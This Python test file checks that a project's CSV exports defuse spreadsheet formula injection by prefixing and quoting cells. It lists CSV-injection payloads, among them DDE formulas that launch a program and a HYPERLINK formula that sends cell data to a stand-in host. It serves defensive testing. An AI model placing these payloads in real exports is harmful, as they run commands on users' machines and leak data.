"""CSV: cells are read back unchanged, and a spreadsheet runs none of them as a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from octavo.citations import format_csv
from octavo.csv_text import write_csv
from octavo.documents.csv_tables import format_csv as format_table
from tests.reading import read_csv
from tests.rows import hostile_texts, make_row

# The characters that OWASP's page "CSV Injection" lists.
TRIGGERS = "=+-@\t\r\n＝＋－＠"
# Formulas from published reports: they start a program, send a cell away, or hide behind a sign.
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://x.example/?a="&A1;"Error")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def as_spreadsheet(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("sign", TRIGGERS, ids=ascii)
def test_no_cell_begins_like_a_formula(sign: str) -> None:
    assert as_spreadsheet(write_csv(["a"], [[f"{sign}1+1"]]))[1] == [f"'{sign}1+1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_both_exports_show_formulas_as_text(formula: str) -> None:
    """A title that looks like a formula is text in the spreadsheet of publications and in the files of tables."""
    row = make_row(title=formula, topics=(formula, formula), venue=formula)
    for text in (format_csv([row]), format_table([row])):
        assert [cell for line in as_spreadsheet(text) for cell in line if cell.startswith(tuple(TRIGGERS))] == []
        assert text.startswith('"'), "every cell must be quoted, so that no separator in it starts another"


@given(st.lists(st.lists(hostile_texts | st.text(alphabet="'=+-@＝\t\r\n,\"a"), min_size=2, max_size=2), max_size=5))
def test_cells_are_read_back_unchanged(rows: list[list[str]]) -> None:
    """Apostrophes of the original text are kept, and no others."""
    assert [list(row.values()) for row in read_csv(write_csv(["a", "b"], rows))] == rows


@given(hostile_texts)
def test_ordinary_text_is_unchanged(text: str) -> None:
    """Only text that begins like a formula gets an apostrophe."""
    if not text.lstrip("'").startswith(tuple(TRIGGERS)):
        assert as_spreadsheet(write_csv(["a"], [[text]]))[1] == [text]


@pytest.mark.parametrize("number", ["-1", "-0.25", "-1e-07"])
def test_a_number_is_not_a_formula(number: str) -> None:
    assert as_spreadsheet(write_csv(["a"], [[number]]))[1] == [number]
    assert as_spreadsheet(write_csv(["a"], [[f"{number}+1"]]))[1] == [f"'{number}+1"]


def test_there_is_only_one_writer() -> None:
    """Any other code that writes CSV would have to follow the rule too."""
    package = Path(__file__).parents[1] / "src/octavo"
    found = [file.name for file in package.rglob("*.py") if "csv.writer" in file.read_text(encoding="utf-8")]
    assert found == ["csv_text.py"]
